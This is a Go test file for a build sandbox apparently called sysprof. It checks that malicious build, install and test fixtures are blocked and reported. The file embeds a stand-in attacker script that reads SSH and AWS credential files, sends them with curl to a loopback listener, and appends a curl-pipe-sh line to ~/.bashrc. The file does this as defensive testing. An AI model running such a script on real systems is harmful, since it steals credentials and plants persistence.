package shipped

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sysprof/sysprof/internal/testutil"
	"github.com/sysprof/sysprof/policy"
	"github.com/sysprof/sysprof/report"
)

// The attacks of the playbook (testdata/attacks/README.md). Each subtest learns the benign twin
// in one work directory, then enforces the malicious project, checked out in another, under
// that profile, with a fake HOME holding fake secrets and a loopback "attacker" listening.
// It asserts that
//
//	(a) the normal job still succeeds (the malicious step never made it fail),
//	(b) no secret reaches the listener,
//	(c) no file outside the work tree changed,
//	(d) the JSON report lists each attempt with the binary that made it.

// secrets are planted in the victim's HOME; none may ever reach the listener.
var secrets = map[string]string{
	".ssh/id_ed25519":  "-----BEGIN OPENSSH PRIVATE KEY-----\nFAKE-SSH-ED25519-7f3a9c\n-----END OPENSSH PRIVATE KEY-----\n",
	".ssh/id_rsa":      "-----BEGIN RSA PRIVATE KEY-----\nFAKE-SSH-RSA-1b2e4d\n-----END RSA PRIVATE KEY-----\n",
	".aws/credentials": "[default]\naws_access_key_id = FAKEAKIA0000\naws_secret_access_key = FAKE-AWS-SECRET-5d8e2f\n",
}

// secretMarkers are the substrings a leak would carry.
var secretMarkers = []string{"FAKE-SSH-ED25519-7f3a9c", "FAKE-SSH-RSA-1b2e4d", "FAKE-AWS-SECRET-5d8e2f", "FAKE-COMMIT-SECRET-0c4b71"}

// dotfiles outside any work tree that an attack may try to change.
var dotfiles = map[string]string{
	".bashrc":  "# the victim's .bashrc\nexport EDITOR=vi\n",
	".profile": "# the victim's .profile\n",
}

// victim returns the victim's box for rel, with the secrets and dotfiles (re)planted.
func victim(t *testing.T, rel, fixture string) *testutil.Box {
	t.Helper()
	b := newBox(t, victimUser, rel, fixture)
	for name, content := range secrets {
		testutil.WriteFile(t, filepath.Join(b.Home, name), content, 0o600)
	}
	for name, content := range dotfiles {
		testutil.WriteFile(t, filepath.Join(b.Home, name), content, 0o644)
	}
	return b
}

// attack is one fixture of testdata/attacks.
type attack struct {
	name    string
	fixture string // testdata/attacks/<fixture>
	need    []string
	argv    []string // the normal job, for the twin and the malicious project alike
	// twin turns a fresh copy of the fixture into its benign twin (in b.Work).
	twin func(t *testing.T, b *testutil.Box)
	// prepare readies a checkout before learn or enforce (both twins), unsandboxed.
	prepare func(t *testing.T, b *testutil.Box)
	// review edits the learned profile as a reviewer would (nil: used as learned).
	review func(p *policy.Profile)
	// beforeEnforce runs in the malicious checkout right before enforcing, unsandboxed.
	beforeEnforce func(t *testing.T, b *testutil.Box)
	// jobDone checks (a) after the enforced run.
	jobDone func(t *testing.T, b *testutil.Box, r testutil.Result)
	// outside lists files outside the work tree that must not change; relative paths are
	// relative to the work directory, "~/" to HOME.
	outside []string
	// attempts are the report entries (d) that must be there.
	attempts []attempt
	// shipped names a shipped profile the attack is also enforced under (profiles/<shipped>.yaml).
	shipped string
}

// attempt is one malicious action the report must name.
type attempt struct {
	what string                     // for the failure message
	exe  []string                   // acceptable basenames of the binary that made it
	is   func(d report.Denial) bool // does d report this action?
	// unobservable, when set, names the entry of the report's unobservable kinds that covers
	// this action: it is refused without a record, and the report must say so instead.
	unobservable string
}

func pathDenial(sub string) func(report.Denial) bool {
	return func(d report.Denial) bool {
		return d.Kind == report.KindFile && (strings.Contains(d.Path, sub) || strings.Contains(d.What, sub))
	}
}

func syscallDenial(name string) func(report.Denial) bool {
	return func(d report.Denial) bool {
		return d.Kind == report.KindSyscall && (d.Syscall == name || strings.HasPrefix(d.What, name+"("))
	}
}

// networkDenial matches a refused connection to the listener's port (or, when the sandbox
// refuses the socket itself, a denied socket(AF_INET…) call).
func networkDenial(port int) func(report.Denial) bool {
	return func(d report.Denial) bool {
		switch d.Kind {
		case report.KindNetwork:
			return strings.HasSuffix(d.Endpoint, fmt.Sprintf(":%d", port)) || strings.Contains(d.What, fmt.Sprintf(":%d", port))
		case report.KindSyscall:
			return (d.Syscall == "socket" || d.Syscall == "connect") && (strings.Contains(d.What, "AF_INET") || d.Syscall == "connect")
		}
		return false
	}
}

func execDenial(prog string) func(report.Denial) bool {
	return func(d report.Denial) bool {
		return (d.Kind == report.KindFile && strings.HasSuffix(d.Path, "/"+prog)) ||
			(d.Kind == report.KindFile && strings.Contains(d.What, "/"+prog) && strings.Contains(d.Access, "exec"))
	}
}

func gitInit(t *testing.T, b *testutil.Box) {
	t.Helper()
	b.Sh(t, `git init -q . && git add -A && git commit -q -m "initial import FAKE-COMMIT-SECRET-0c4b71"`)
}

// TestAttacks runs every attack fixture. The listener's port reaches the malicious step as
// SYSPROF_ATTACK_PORT.
func TestAttacks(t *testing.T) {
	testutil.RequireRoot(t)
	// The listener is made per subtest, but the port is needed in the attack table.
	var port int
	attacks := []attack{
		{
			name:    "cargo-build.rs-exfiltrates-keys",
			fixture: "cargo-buildrs",
			need:    []string{"cargo"},
			argv:    []string{"cargo", "build", "--offline"},
			twin: func(t *testing.T, b *testutil.Box) {
				copyFile(t, filepath.Join(b.Work, "benign", "build.rs"), filepath.Join(b.Work, "build.rs"), 0o644)
			},
			// As in the shipped cargo-test profile: the build script's path has a hash in it;
			// the reviewed rule is the target directory.
			review: func(p *policy.Profile) { widenExec(p, "$WORKDIR/target/", "$WORKDIR/target") },
			// KNOWN GAP (enforcer): an exec rule on a path that does not exist when the sandbox
			// starts is not granted (Landlock needs an existing path; write rules fall back to
			// the nearest directory, exec rules do not). A fresh checkout has no target/, so
			// the build script could not run at all. An existing (empty) target/ is an
			// incremental build's state; shipped/TestShippedProfiles/cargo-test shows the gap.
			beforeEnforce: func(t *testing.T, b *testutil.Box) { b.Sh(t, "mkdir -p target") },
			jobDone: func(t *testing.T, b *testutil.Box, r testutil.Result) {
				out := b.Run(t, "./target/debug/buildrs-fixture")
				if !strings.Contains(out.Stdout, "built by build.rs") {
					t.Errorf("(a) the built program does not run: %s", out)
				}
			},
			outside: []string{"~/.ssh/id_ed25519", "~/.ssh/id_rsa", "~/.aws/credentials"},
			attempts: []attempt{
				{what: "read ~/.ssh/id_*", exe: []string{"build-script-build"}, is: pathDenial(".ssh/id_")},
				{what: "read ~/.aws/credentials", exe: []string{"build-script-build"}, is: pathDenial(".aws/credentials")},
				{what: "connect to the attacker", exe: []string{"build-script-build"}, is: func(d report.Denial) bool { return networkDenial(port)(d) }},
			},
		},
		{
			name:    "npm-postinstall-curl-pipe-sh",
			fixture: "npm-postinstall",
			need:    []string{"npm", "node", "sh"},
			argv:    []string{"npm", "install", "--offline", "--no-audit", "--no-fund"},
			twin: func(t *testing.T, b *testutil.Box) {
				copyFile(t, filepath.Join(b.Work, "benign", "package.json"), filepath.Join(b.Work, "package.json"), 0o644)
			},
			jobDone: func(t *testing.T, b *testutil.Box, r testutil.Result) {
				if got := readFile(t, filepath.Join(b.Work, "generated.js")); !strings.Contains(got, `"1.0.0"`) {
					t.Errorf("(a) postinstall did not generate generated.js (got %q)", got)
				}
			},
			outside: []string{"~/.bashrc", "~/.profile"},
			attempts: []attempt{
				{what: "run curl (the download)", exe: []string{"sh", "dash", "bash"}, is: execDenial("curl")},
				{what: "append to ~/.bashrc", exe: []string{"sh", "dash", "bash"}, is: pathDenial(".bashrc")},
				// curl refused, the fallback is node's http client: node may use the network
				// (the registry), so this is the network allowlist's refusal of another port.
				// A port no rule names is refused by Landlock before the proxy sees the connect
				// (netproxy's doc, README's Known limits): no record, and the report says so.
				{what: "download the script with node (another port than the registry's)", exe: []string{"node"}, is: func(d report.Denial) bool {
					return d.Kind == report.KindNetwork && (strings.HasSuffix(d.Endpoint, fmt.Sprintf(":%d", port)) || strings.Contains(d.What, fmt.Sprintf(":%d", port)))
				}, unobservable: "connects to ports no network rule names"},
			},
		},
		{
			name:    "go-test-phones-home-and-plants-hooks",
			fixture: "gotest-phonehome",
			need:    []string{"go", "git"},
			argv:    []string{"go", "test", "-count=1", "."},
			twin: func(t *testing.T, b *testutil.Box) {
				if err := os.Remove(filepath.Join(b.Work, "analytics_test.go")); err != nil {
					t.Fatal(err)
				}
			},
			prepare: gitInit,
			shipped: "go-test",
			jobDone: func(t *testing.T, b *testutil.Box, r testutil.Result) {
				if !strings.Contains(r.Stdout, "ok ") {
					t.Errorf("(a) go test did not pass: %s", r)
				}
			},
			outside: []string{".git/hooks/pre-commit", ".git/hooks/post-checkout"},
			attempts: []attempt{
				{what: "run git log", exe: []string{"phonehome.test"}, is: execDenial("git")},
				{what: "POST to the attacker", exe: []string{"phonehome.test"}, is: func(d report.Denial) bool { return networkDenial(port)(d) }},
				{what: "write .git/hooks/post-checkout", exe: []string{"phonehome.test"}, is: pathDenial(".git/hooks/")},
			},
		},
		{
			name:    "formatter-rewrites-outside-the-tree",
			fixture: "formatter",
			need:    []string{"gcc"},
			argv:    []string{"./tidy"},
			twin:    func(t *testing.T, b *testutil.Box) { b.Sh(t, "gcc -O2 -Wall -DBENIGN -o tidy tidy.c") },
			prepare: func(t *testing.T, b *testutil.Box) {
				testutil.WriteFile(t, filepath.Join(b.Work, "..", "sibling", "notes.txt"), "the sibling project's notes\n", 0o644)
			},
			// The malicious formatter: built the same way, without -DBENIGN.
			beforeEnforce: func(t *testing.T, b *testutil.Box) { b.Sh(t, "gcc -O2 -Wall -o tidy tidy.c") },
			jobDone: func(t *testing.T, b *testutil.Box, r testutil.Result) {
				if got := readFile(t, filepath.Join(b.Work, "a.txt")); got != "first line\nsecond line\n" {
					t.Errorf("(a) a.txt was not formatted: %q", got)
				}
			},
			outside: []string{"~/.profile", "../sibling/notes.txt"},
			attempts: []attempt{
				{what: "append to ~/.profile", exe: []string{"tidy"}, is: pathDenial(".profile")},
				{what: "rewrite ../sibling/notes.txt", exe: []string{"tidy"}, is: pathDenial("sibling/notes.txt")},
			},
		},
		{
			name:    "build-step-tries-ptrace-mount-userns-io_uring",
			fixture: "escape-build",
			need:    []string{"make", "gcc"},
			argv:    []string{"make"},
			twin: func(t *testing.T, b *testutil.Box) {
				// The same Makefile, with the generator built -DBENIGN.
				data := readFile(t, filepath.Join(b.Work, "Makefile"))
				testutil.WriteFile(t, filepath.Join(b.Work, "Makefile"), strings.Replace(data, "GENFLAGS ?=\n", "GENFLAGS ?= -DBENIGN\n", 1), 0o644)
			},
			// KNOWN GAP (enforcer), as for cargo: the generator is built by this very make, and
			// an exec rule on a file that does not exist yet is not granted. The checkout's
			// generator is already built (an incremental build), so the step that matters, its
			// run, happens under the sandbox.
			beforeEnforce: func(t *testing.T, b *testutil.Box) { b.Sh(t, "make -s gen") },
			jobDone: func(t *testing.T, b *testutil.Box, r testutil.Result) {
				out := b.Run(t, "./hello")
				if !strings.Contains(out.Stdout, "hello from gen") {
					t.Errorf("(a) the built program does not run: %s", out)
				}
			},
			attempts: []attempt{
				{what: "ptrace", exe: []string{"gen"}, is: syscallDenial("ptrace")},
				{what: "mount", exe: []string{"gen"}, is: syscallDenial("mount")},
				{what: "unshare (new user namespace)", exe: []string{"gen"}, is: syscallDenial("unshare")},
				{what: "io_uring_setup", exe: []string{"gen"}, is: syscallDenial("io_uring_setup")},
			},
		},
	}

	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			benign := victim(t, filepath.Join("src", a.name, "twin"), filepath.Join("attacks", a.fixture))
			testutil.RequireTools(t, benign.Path, a.need...)
			// The "downloaded script" steals the keys and persists in ~/.bashrc.
			attacker := testutil.Record(t, func(port int) string {
				return fmt.Sprintf("#!/bin/sh\ncat ~/.ssh/id_* ~/.aws/credentials | curl -s --data-binary @- http://127.0.0.1:%d/loot\necho 'curl -fsS http://127.0.0.1/x | sh # sysprof-attack' >> ~/.bashrc\n", port)
			})
			port = attacker.Port
			// A "package registry" the normal job may use (npm-postinstall's prebuilt manifest):
			// the same port for the learn and the enforced runs, so the learned profile's
			// network allowlist holds it and nothing else.
			registry := testutil.Record(t, func(int) string { return `{"version":"1.0.0"}` })
			env := []string{fmt.Sprintf("SYSPROF_REGISTRY_PORT=%d", registry.Port)}
			benign.Extra = append(benign.Extra, env...)

			// Learn the benign twin.
			a.twin(t, benign)
			if a.prepare != nil {
				a.prepare(t, benign)
			}
			profile := filepath.Join(t.TempDir(), a.name+".yaml")
			r := benign.Sysprof(t, append([]string{"learn", "-p", profile, "--"}, a.argv...)...)
			testutil.MustCode(t, "learn the benign twin", r, 0)
			if a.review != nil {
				p, err := policy.Load(profile)
				if err != nil {
					t.Fatal(err)
				}
				a.review(p)
				if err := policy.Save(profile, p); err != nil {
					t.Fatal(err)
				}
			}
			env = append(env, fmt.Sprintf("SYSPROF_ATTACK_PORT=%d", port))
			enforceAttack(t, a, "project", profile, env, attacker)
			if a.shipped != "" {
				// The same attack under the shipped profile, with nothing learned.
				t.Run("shipped-"+a.shipped, func(t *testing.T) {
					shipped := filepath.Join(testutil.RepoRoot(), "profiles", a.shipped+".yaml")
					enforceAttack(t, a, "checkout", shipped, env, attacker)
				})
			}
		})
	}
}

// enforceAttack checks out the malicious project afresh as rel, enforces it under profile with
// env, and makes the assertions (a)–(d).
func enforceAttack(t *testing.T, a attack, rel, profile string, env []string, attacker *testutil.Recorder) {
	t.Helper()
	evil := victim(t, filepath.Join("src", a.name, rel), filepath.Join("attacks", a.fixture))
	evil.Extra = append(evil.Extra, env...)
	if a.prepare != nil {
		a.prepare(t, evil)
	}
	if a.beforeEnforce != nil {
		a.beforeEnforce(t, evil)
	}
	before := snapshot(t, evil, a.outside)
	conns0, _ := attacker.Received()
	rep := filepath.Join(t.TempDir(), "report.json")
	r := evil.Sysprof(t, append([]string{"enforce", "-p", profile, "--report", rep, "--"}, a.argv...)...)
	rp := testutil.ReadReport(t, rep)
	var lines []string
	for _, d := range rp.Denials {
		lines = append(lines, "  "+testutil.DenialString(d))
	}
	t.Logf("report: %d denials\n%s", len(rp.Denials), strings.Join(lines, "\n"))

	// (a) the job succeeded.
	if r.Code != 0 {
		t.Errorf("(a) the normal job failed under the profile: %s", r)
	} else {
		a.jobDone(t, evil, r)
	}
	// (b) nothing secret reached the attacker; nothing at all should have: no profile allows
	// its port.
	conns, got := attacker.Received()
	for _, m := range secretMarkers {
		if strings.Contains(got, m) {
			t.Errorf("(b) the attacker received %s (%d connections):\n%s", m, conns, got)
		}
	}
	if conns > conns0 {
		t.Errorf("(b) the attacker accepted %d connection(s) (no secret in them, but its port is in no allowlist):\n%s", conns-conns0, got)
	}
	// (c) nothing outside the work tree changed.
	after := snapshot(t, evil, a.outside)
	for _, f := range a.outside {
		if before[f] != after[f] {
			t.Errorf("(c) %s changed: %q -> %q", f, before[f], after[f])
		}
	}
	for name, content := range dotfiles {
		if got := readFile(t, filepath.Join(evil.Home, name)); got != content {
			t.Errorf("(c) ~/%s changed: %q", name, got)
		}
	}
	// (d) the report names each attempt and the binary that made it.
	for _, at := range a.attempts {
		var match, byExe []report.Denial
		for _, d := range rp.Denials {
			if at.is(d) {
				match = append(match, d)
				for _, e := range at.exe {
					if filepath.Base(d.Exe) == e || strings.HasPrefix(filepath.Base(d.Exe), e) {
						byExe = append(byExe, d)
						break
					}
				}
			}
		}
		switch {
		case len(match) == 0 && at.unobservable != "":
			if !slices.ContainsFunc(rp.Unobservable, func(u string) bool { return strings.Contains(u, at.unobservable) }) {
				t.Errorf("(d) the attempt to %s is refused without a record, and the report does not say %q is unobservable: %q", at.what, at.unobservable, rp.Unobservable)
			} else {
				t.Logf("(d) %s: refused without a record (%s, stated in the report)", at.what, at.unobservable)
			}
		case len(match) == 0:
			t.Errorf("(d) the report does not list the attempt to %s (by %v)", at.what, at.exe)
		case len(byExe) == 0:
			t.Errorf("(d) the report lists the attempt to %s, but not by %v: %s", at.what, at.exe, testutil.DenialString(match[0]))
		default:
			t.Logf("(d) %s: %s", at.what, testutil.DenialString(byExe[0]))
		}
	}
}

// widenExec replaces exec rules under prefix with one rule on dir (the reviewer's edit).
func widenExec(p *policy.Profile, prefix, dir string) {
	var out []policy.PathRule
	added := false
	for _, r := range p.Filesystem.Exec {
		if strings.HasPrefix(r.Path, prefix) {
			if !added {
				out = append(out, policy.PathRule{Path: dir, Provenance: r.Provenance, Note: "reviewed: binaries built under " + dir})
				added = true
			}
			continue
		}
		out = append(out, r)
	}
	p.Filesystem.Exec = out
}

// snapshot reads the files in names (see attack.outside); a missing file reads as "".
func snapshot(t *testing.T, b *testutil.Box, names []string) map[string]string {
	t.Helper()
	m := map[string]string{}
	for _, n := range names {
		p := filepath.Join(b.Work, n)
		if rest, ok := strings.CutPrefix(n, "~/"); ok {
			p = filepath.Join(b.Home, rest)
		}
		m[n] = readFile(t, p)
	}
	return m
}
